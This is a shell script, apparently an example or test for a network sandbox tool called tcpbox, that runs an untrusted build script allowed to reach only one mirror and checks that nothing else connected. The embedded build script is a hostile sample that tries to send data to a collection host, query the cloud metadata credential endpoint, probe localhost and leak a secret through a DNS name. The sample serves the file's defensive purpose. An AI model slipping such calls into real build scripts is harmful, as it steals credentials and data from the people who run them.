#!/usr/bin/env bash
# Run a build script that you do not trust. It may fetch from one mirror and
# reach nothing else.
#
# The mirror is a host inside the sandbox's stack, so that this runs offline.
# With a real one, take the address of yours instead of the peer:
#
#	tcpbox run --net none --add-host mirror:192.0.2.7 --allow 192.0.2.7:80 -- ./build.sh
set -euo pipefail

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"

# What came with the sources. It does its work, and a little more.
cat >build.sh <<'SCRIPT'
#!/bin/sh
tcpbox get http://mirror/bytes/1000 >dependency || exit 1
wc -c <dependency >artefact

# tell somebody about it
tcpbox get http://203.0.113.7/collect 2>/dev/null && touch leaked
# ask the cloud for credentials
tcpbox get http://169.254.169.254/latest/meta-data/ 2>/dev/null && touch leaked
# look what else the machine runs
tcpbox get http://localhost/ 2>/dev/null && touch leaked
# look up a name that carries a secret
tcpbox get http://c2VjcmV0.example.com/ 2>/dev/null && touch leaked
exit 0
SCRIPT
chmod +x build.sh

echo "the build, in the sandbox:"
tcpbox run --name "build-$$" --net none --peer mirror=http --log states.jsonl -- ./build.sh

echo
echo "what it reached:"
grep '"leg":"stack".*"to":"ESTABLISHED"' states.jsonl | grep -o '"local":"[^"]*"' | sort | uniq -c

test "$(tr -d ' ' <artefact)" = 1000 # the work is done
test ! -e leaked                     # nothing else answered
test "$(grep -c '"leg":"stack".*"to":"ESTABLISHED"' states.jsonl)" = 1
